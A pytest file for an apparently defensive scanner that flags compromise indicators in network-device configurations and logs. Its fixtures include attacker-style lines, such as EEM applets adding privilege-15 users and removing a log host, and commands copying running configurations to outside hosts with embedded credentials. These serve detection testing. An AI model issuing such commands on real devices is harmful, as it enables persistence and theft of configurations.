"""Configuration checks: what they hit, what they pass over, and what they never print."""

import csv
from collections.abc import Callable
from pathlib import Path

import pytest

from holdfast.app.devices import DevicesRequest, assess_devices
from holdfast.app.settings import Settings
from holdfast.devices.allow import AllowList, read_allow_list
from holdfast.devices.checks.table import CHECKS
from holdfast.devices.inspection import inspect, settle
from holdfast.model.device import DeviceText
from holdfast.model.errors import UsageError
from holdfast.model.status import Problems
from holdfast.records.device_files import read_device_file

NO_HOME = Settings(Path("no-home"))
"""Without any update the facts that ship are what judges."""

CASES = [
    ("ios", "username maint privilege 15 secret 9 $9$x", "USER_PRIV15_UNEXPECTED", "sign"),
    ("ios", "username view privilege 1 secret 9 $9$x", "USER_PRIV15_UNEXPECTED", ""),
    ("ios", "username cisco_support_team privilege 1 secret 9 $9$x", "USER_KNOWN_BAD", ""),
    ("ios", "ip ssh port 32122 rotary 2", "SSH_PORT_PATTERN", "sign"),
    ("ios", "ip ssh port 2222 rotary 2", "SSH_PORT_PATTERN", "risk"),
    ("ios", "ip http secure-port 18080", "WEBUI_PORT_18XXX", "sign"),
    ("ios", "ip http secure-port 1844", "WEBUI_PORT_18XXX", ""),
    ("ios", "interface Tunnel7\n tunnel destination 10.1.1.1", "TUNNEL_UNEXPECTED", ""),
    ("ios", "interface Tunnel7\n tunnel destination 198.51.100.9", "TUNNEL_UNEXPECTED", "sign"),
    ("ios", "interface Tunnel7\n shutdown\n tunnel destination 198.51.100.9", "TUNNEL_UNEXPECTED", ""),
    ("ios", "ip access-list standard 50\n 10 permit 203.0.113.8", "ACL_NAMED_IN_ADVISORY", "sign"),
    ("ios", "ip access-list standard 51\n 10 permit 203.0.113.8", "ACL_NAMED_IN_ADVISORY", ""),
    (
        "ios",
        'event manager applet A\n action 1 cli command "username x privilege 15 secret 0 y"',
        "EEM_SUSPECT",
        "sign",
    ),
    ("ios", "line vty 0 4\n access-class 5 in\n transport input ssh", "TELNET_ENABLED", ""),
    (
        "fortios",
        'config system interface\n edit "wan2"\n set allowaccess ping\n next\nend',
        "MGMT_ON_WAN",
        "",
    ),
    ("junos", "system {\n services {\n web-management {\n https;\n }\n }\n}", "JWEB_ENABLED", "risk"),
    ("log", '1.2.3.4 - - "POST /webui_wsma_https HTTP/1.1" 200', "WSMA_PROBE", "sign"),
    ("log", "copy running-config tftp://10.1.1.1/x", "TFTP_FTP", ""),
]


def kinds(platform: str, block: str, check: str, allow: AllowList) -> set[str]:
    text = DeviceText("d", platform, "config", "f", 1, tuple(block.split("\n")))
    return {item.hit.kind.value for item in settle(inspect([text], allow)) if item.check.id == check}


@pytest.mark.parametrize(("platform", "block", "check", "kind"), CASES)
def test_patterns_and_look_alikes(platform: str, block: str, check: str, kind: str) -> None:
    """A pattern is hit with its kind, its look-alike is not."""
    assert kinds(platform, block, check, AllowList()) == ({kind} if kind else set())


def test_allow_list() -> None:
    """What the operator names as its own is passed over, and an unknown key is an error rather than ignored."""
    allow = read_allow_list('users = ["maint"]\nssh_ports = [32122]\ntunnel_peers = ["198.51.100.0/24"]')
    assert not kinds("ios", CASES[0][1], "USER_PRIV15_UNEXPECTED", allow)
    assert not kinds("ios", "ip ssh port 32122 rotary 2", "SSH_PORT_PATTERN", allow)
    assert not kinds("ios", "interface Tunnel7\n tunnel destination 198.51.100.9", "TUNNEL_UNEXPECTED", allow)
    with pytest.raises(UsageError, match="userz"):
        read_allow_list('userz = ["x"]')


def test_labelled_blocks(shared: Callable[[str], Path]) -> None:
    """Every labelled sign and risk is found with its kind, and no benign look-alike is flagged."""
    platforms = {
        "cisco_ios_xe": "ios",
        "cisco_ios_xr": "ios_xr",
        "cisco_nxos": "nxos",
        "cisco_asa": "asa",
        "juniper_junos": "junos",
    }
    wrong = []
    with shared("devices/config_line_cases.csv").open(newline="") as stream:
        for row in csv.DictReader(stream):
            platform = platforms.get(row["platform"], row["platform"])
            found = kinds(platform, row["block"], row["check"], AllowList())
            if (row["label"] == "benign") != (not found) or (found and row["label"] not in found):
                wrong.append((row["id"], found))
    assert wrong == []


def test_public_clean_configurations(shared: Callable[[str], Path]) -> None:
    """At most one in two hundred public configurations shows a sign."""
    base = shared("devices/outputs/MANIFEST.csv").parent
    texts: list[DeviceText] = []
    count = 0
    with (base / "MANIFEST.csv").open(newline="") as stream:
        for row in csv.DictReader(stream):
            if row["kind"] == "config" and row["file"] != "batfish/cisco/ios-unicode":
                count += 1
                texts.extend(read_device_file(base / row["file"], Problems()).texts)
    signs = {item.file for item in settle(inspect(texts, AllowList())) if item.hit.kind == "sign"}
    assert len(signs) <= count * 0.005


SECRETS = {
    "ios": """hostname r1
username adm privilege 15 password 0 Secret0ne
username cisco_support privilege 15 secret 9 $9$Secret
enable password 7 Secret7wo
snmp-server community SecretThree RW
snmp-server host 203.0.113.9 version 2c SecretCommunity
tacacs server T1
 address ipv4 203.0.113.50
 key 7 SecretFour
radius-server host 203.0.113.51 key 7 SecretFive
crypto isakmp key SecretPsk address 203.0.113.60
interface Tunnel7
 tunnel source Loopback0
 tunnel destination 203.0.113.70
 tunnel key 4711
event manager applet A
 action 1 cli command "username svc privilege 15 secret 0 SecretSix"
 action 2 cli command "copy ftp://svc:SecretSeven@203.0.113.9/x.cfg running-config"
 action 3 cli command "no logging host 203.0.113.9"
kron policy-list P
 cli copy running-config scp://svc:SecretKron@203.0.113.9/r1
ip http server
line vty 0 4
 password SecretVty
 transport input telnet
""",
    "fortios": """#config-version=FGT60F-7.0.11-FW-build0489-230314:opmode=0:vdom=0:user=admin
config system global
    set hostname "fw1"
end
config system admin
    edit "itadmin"
        set accprofile "super_admin"
        set password ENC SecretFg1
        set ssh-public-key1 "ssh-rsa SecretFg2"
    next
end
config user radius
    edit "r"
        set server "203.0.113.52"
        set secret ENC SecretFg3
    next
end
config system snmp community
    edit 1
        set name "SecretFg4"
    next
end
""",
    "junos": """set system host-name j1
set system login user oper class super-user authentication encrypted-password "SecretJ1"
set system login user oper authentication ssh-rsa "ssh-rsa SecretJ2 x@y"
set system radius-server 203.0.113.53 secret "SecretJ3"
set snmp community SecretJ4 authorization read-write
set system services telnet
set system services web-management http
""",
    "log": """Nov 25 10:00:00 r1 %PARSER-5-CFGLOG_LOGGEDCMD: User:netop  logged command:username x privilege 15 secret SecretL1
Nov 25 10:00:01 r1 %PARSER-5-CFGLOG_LOGGEDCMD: User:netop  logged command:copy running-config ftp://svc:SecretL2@203.0.113.9/r1.cfg
Nov 25 10:00:02 r1 %SYS-5-CONFIG_P: Configured programmatically by process SEP_webui_wsma_http from console as cisco_tac_admin
""",
}
"""Configurations of which every secret begins with the same word."""


@pytest.mark.parametrize(
    ("dialect", "check"),
    [("ios", "SNMP_WEAK"), ("fortios", "SNMP_WEAK"), ("junos", "TELNET"), ("log", "USER_KNOWN_BAD")],
)
def test_secrets_stay_in_the_configuration(tmp_path: Path, dialect: str, check: str) -> None:
    """No password, key or community reaches a row, a status, a message or a page, whatever the dialect."""
    (tmp_path / "texts").mkdir()
    (tmp_path / "texts/r1.txt").write_text(SECRETS[dialect])
    outcome = assess_devices(DevicesRequest((tmp_path / "texts",), report=tmp_path / "report"), NO_HOME)
    printed = repr(list(outcome.rows)) + repr(list(outcome.statuses()))
    pages = "".join(path.read_text() for path in (tmp_path / "report").rglob("*") if path.is_file())
    assert check in printed
    assert "Secret" not in printed + pages


def test_setting_that_a_flaw_needs(tmp_path: Path) -> None:
    """The same release is affected with the web server on, and review with it off."""
    inventory = (
        "device,family,version,config\nr1,ios-xe,17.9.2,r1.cfg\nr2,ios-xe,17.9.2,r2.cfg\nr3,ios-xe,17.9.2,\n"
    )
    (tmp_path / "inventory.csv").write_text(inventory + "r4,ios-xe,17.9.2,../r4.cfg\n")
    (tmp_path / "r1.cfg").write_text("hostname r1\nip http secure-server\n")
    (tmp_path / "r2.cfg").write_text("hostname r2\nno ip http server\nno ip http secure-server\n")
    outcome = assess_devices(DevicesRequest((tmp_path / "inventory.csv",)), NO_HOME)
    rows = [row for row in outcome.rows if row.get("cve") == "CVE-2023-20198"]
    assert {row["device"]: row["verdict"] for row in rows} == {
        "r1": "affected",
        "r2": "review",
        "r3": "affected",
        "r4": "affected",
    }
    assert [status.subject for status in outcome.statuses() if status.state != "ok"] == ["r4: ../r4.cfg"]


def test_before_and_after(tmp_path: Path) -> None:
    """What was added or removed between two dates is said: an account, accounting, a log server."""
    old = "hostname r1\naaa accounting exec default start-stop group T\nlogging host 10.1.1.5\ninterface Loopback0\n"
    (tmp_path / "old").mkdir()
    (tmp_path / "new").mkdir()
    (tmp_path / "old/r1.cfg").write_text(
        old + " ip address 10.0.0.1 255.255.255.255\nip ssh source-interface Loopback0\n"
    )
    (tmp_path / "new/r1.cfg").write_text(
        "hostname r1\nusername svc privilege 15 secret 9 $9$x\ninterface Loopback0\n"
        " ip address 10.0.0.99 255.255.255.255\nip ssh source-interface Loopback0\n"
    )
    outcome = assess_devices(DevicesRequest((tmp_path / "new",), before=(tmp_path / "old",)), NO_HOME)
    signs = {str(row["check"]) for row in outcome.rows if row.get("kind") == "sign"}
    assert signs == {"USER_PRIV15_UNEXPECTED", "AAA_WEAKENED", "LOGGING_REMOVED", "LOOPBACK_CHANGED"}


def test_every_check_says_where_it_comes_from() -> None:
    """Ids are unique, and each check names platforms, source and guard."""
    assert len({check.id for check in CHECKS}) == len(CHECKS)
    assert all(check.platforms and check.source and check.guard and check.techniques for check in CHECKS)
